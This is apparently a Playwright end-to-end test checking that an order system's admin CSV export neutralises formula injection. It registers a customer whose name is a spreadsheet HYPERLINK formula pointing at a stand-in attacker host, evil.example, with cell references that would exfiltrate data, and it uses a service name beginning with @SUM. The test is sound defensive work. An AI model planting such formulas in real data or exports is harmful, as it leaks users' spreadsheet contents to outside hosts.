import { expect, test } from '@playwright/test';
import { imeiFrom } from './imei';
import { ADMIN, bearer } from './session';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&E2&F2,"Click")';

test('the order CSV writes a customer named like a formula, a service and a code that start a formula, as text', async ({
  page,
  request,
}) => {
  const stamp = String(Date.now()).slice(-9);
  const service = `@SUM(1+1) CSV ${stamp}`;
  const customer = {
    name: HOSTILE_NAME,
    email: `csv.${stamp}@example.com`,
    password: 'e2e-password-1',
  };
  const imei = imeiFrom(`35${stamp}700`);

  const admin = await bearer(request, ADMIN.email, ADMIN.password);
  const categories = await (await request.get('/api/categories', { headers: admin })).json();
  const created = await request.post('/api/admin_services', {
    headers: admin,
    data: { name: service, price: 1, category_id: categories.data[0].id },
  });
  expect(created.status()).toBe(201);
  const serviceId = (await created.json()).data.id;
  const registered = await request.post('/api/regis', {
    data: { ...customer, c_password: customer.password },
  });
  expect(registered.status()).toBe(201);
  const customerId = (await registered.json()).user.id;
  expect(
    (
      await request.patch(`/api/admin_users/${customerId}`, {
        headers: admin,
        data: { credits: 5 },
      })
    ).ok(),
  ).toBe(true);
  const shopper = await bearer(request, customer.email, customer.password);
  const placed = await request.post('/api/orders', {
    headers: shopper,
    data: { service_id: serviceId, imei },
  });
  expect(placed.ok()).toBe(true);

  await page.goto('/auth/login');
  await page.getByLabel('Email').fill(ADMIN.email);
  await page.getByLabel('Password').fill(ADMIN.password);
  await page.getByRole('button', { name: 'Get Started' }).click();
  await expect(page).toHaveURL(/\/admin\//);
  await page.goto('/admin/admin-orders');
  await expect(page.getByRole('row').filter({ hasText: imei })).toHaveCount(1);

  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const download = await downloading;
  const path = await download.path();
  const { readFile } = await import('node:fs/promises');
  const csv = await readFile(path, 'utf8');
  const line = csv.split('\r\n').find((text) => text.includes(imei));
  expect(line).toBeDefined();
  // Every cell of the line: none begins (inside its quotes or not) with a formula character.
  expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&E2&F2,""Click"")"`);
  expect(line).toContain(`'@SUM(1+1) CSV ${stamp}`);
});
